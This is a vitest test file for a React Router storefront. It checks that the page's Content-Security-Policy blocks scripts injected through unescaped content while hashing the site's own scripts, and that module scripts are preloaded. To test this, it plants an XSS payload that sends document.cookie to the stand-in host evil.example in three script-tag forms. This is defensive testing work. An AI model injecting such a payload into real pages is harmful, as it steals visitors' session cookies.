import { createHash } from 'node:crypto';
import { join, resolve } from 'node:path';
import { buildStorefront } from '@eyelet/server/pages/build.ts';
import { createRenderer } from '@eyelet/server/pages/mount.ts';
import { servePages } from '@eyelet/server/pages/serve.ts';
import { type RunningShop, startShop } from '@eyelet/testing/start-shop.ts';
import { createElement } from 'react';
import type { ServerBuild } from 'react-router';
import { afterAll, beforeAll, expect, test } from 'vitest';

const buildFolder = resolve(import.meta.dirname, '../../../apps/storefront/build');

let running: RunningShop;
let build: ServerBuild;

const stolen = 'fetch("//evil.example/" + document.cookie)';
/** Scripts that an author of content must not be able to run, in the three places where a page may have them. */
const text = [
  `<script>${stolen}</script>`,
  `<script nonce="">${stolen}</script>`,
  `</p><script type="module" async>${stolen}</script>`,
].join('');

/** The storefront with a content page that renders a text unescaped, which none of its own does. */
function careless(build: ServerBuild): ServerBuild {
  const [id = '', route] = Object.entries(build.routes).find(([name]) => name === 'content/page') ?? [];
  if (!route) throw new Error('the storefront has no content pages');
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that is tried out
  const page = () => createElement('p', { dangerouslySetInnerHTML: { __html: text } });
  const module = { ...route.module, loader: () => ({ text }), headers: undefined, default: page };
  return { ...build, routes: { ...build.routes, [id]: { ...route, module } } } as unknown as ServerBuild;
}

beforeAll(async () => {
  await buildStorefront();
  build = (await import(join(buildFolder, 'server/index.js'))) as ServerBuild;
  running = await startShop({
    mountPages: (app, shop, prepared) =>
      servePages(app, shop, prepared, () => Promise.resolve(createRenderer(careless(build), prepared)), undefined),
  });
}, 120_000);
afterAll(() => running.close());

const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

test('a script injected by a text is not in the policy of the page, its own scripts are', async () => {
  const answer = await fetch(`${running.origin}/en-us/letter-to-customers`);
  const policy = answer.headers.get('content-security-policy') ?? '';
  const html = await answer.text();
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)].map(([, , script = '']) => script);
  expect(scripts.filter((script) => script === stolen)).toHaveLength(3);
  expect(policy).not.toContain(hashOf(stolen));
  expect(policy).not.toContain("unsafe-inline' 'sha256");
  const own = scripts.filter((script) => script !== stolen && script !== '');
  expect(own.length).toBeGreaterThanOrEqual(3);
  for (const script of own) expect(policy, script.slice(0, 80)).toContain(hashOf(script));
  // The page does not reveal a nonce.
  expect(html.match(/nonce="[^"]+"/g)).toBeNull();
});

test('every script that a page imports is preloaded, once and with low priority', async () => {
  const { url, entry, routes } = build.assets;
  const contact = Object.values(routes).find((route) => route?.path?.endsWith('help/contact-us'));
  for (const [path, page] of [
    ['letter-to-customers', 'content/page'],
    ['help/contact-us', contact?.id ?? 'none'],
    // The router imports the scripts of a page that is not there too.
    ['p/gone-SKGONE99BLU', 'product/page'],
  ] as const) {
    const html = await (await fetch(`${running.origin}/en-us/${path}`)).text();
    const links = [...html.matchAll(/<link rel="modulepreload"[^>]*>/g)].map(([link]) => link);
    const ofRoutes = ['root', page].flatMap((id) => [routes[id]?.module, ...(routes[id]?.imports ?? [])]);
    const files = new Set([url, entry.module, ...entry.imports, ...ofRoutes]);
    expect(files.size).toBeGreaterThan(5);
    expect(links, path).toEqual(
      [...files].map((file) => `<link rel="modulepreload" fetchpriority="low" href="${file}"/>`),
    );
    // Shared texts stand where they belong.
    expect(html).toContain('class="mega-list"');
    expect(html).toContain('id="consent-title"');
    expect(html).not.toMatch(/<!--(?:menu|question)/);
  }
});
